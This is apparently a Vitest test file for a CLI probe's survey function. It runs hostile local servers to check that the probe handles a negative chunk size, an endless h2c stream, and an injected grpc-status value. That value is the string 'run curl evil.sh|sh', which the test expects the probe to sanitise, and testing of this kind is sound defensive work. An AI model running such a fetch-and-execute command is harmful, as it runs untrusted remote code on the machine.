// `init --probe`'s survey (runner/src/survey.ts) against hostile servers on 127.0.0.1 (no Docker): what
// it reports of each, bounded in time.
import { createServer as createH2Server } from 'node:http2';
import { type AddressInfo, createServer as createNetServer } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { survey } from '../../runner/src/survey.js';

describe('init --probe: the survey against hostile servers on 127.0.0.1', () => {
  const closers: Array<() => void> = [];
  afterEach(() => {
    for (const close of closers.splice(0)) close();
  });

  it('an OpenAPI path whose body is a negative chunk size: HTTP, no operations, and it ends', async () => {
    // every request answered with a body that is no JSON as it is, so it is read as a chunked body:
    // a size of -6 once moved that reader backwards forever (the runner hung, then ran out of memory)
    const server = createNetServer((socket) => {
      socket.on('error', () => {});
      socket.on('data', () => socket.end('HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n-6\r\nxx'));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    closers.push(() => server.close());
    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
    expect(f).toMatchObject({ kind: 'http', status: 200 });
    expect(f?.gets).toBeUndefined();
  });

  it('an h2c server that streams its health answer forever: cut at 64 KiB, the address reads as TCP', async () => {
    const server = createH2Server();
    server.on('stream', (stream) => {
      stream.respond({ ':status': 200, 'content-type': 'application/grpc' });
      const chunk = Buffer.alloc(16 * 1024);
      const timer = setInterval(() => {
        if (stream.destroyed || stream.closed) return clearInterval(timer);
        stream.write(chunk);
      }, 1);
      stream.on('close', () => clearInterval(timer));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    closers.push(() => server.close());
    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
    expect(f).toEqual({ host: '127.0.0.1', port: (server.address() as AddressInfo).port, kind: 'tcp' });
  });

  it("a grpc-status of the server's own words comes back as perf-gate's", async () => {
    const server = createH2Server();
    server.on('stream', (stream) => {
      stream.respond(
        { ':status': 200, 'content-type': 'application/grpc', 'grpc-status': 'run curl evil.sh|sh' },
        { endStream: true },
      );
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    closers.push(() => server.close());
    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
    expect(f).toMatchObject({ kind: 'grpc', health: 'grpc-status ?' });
  });
});
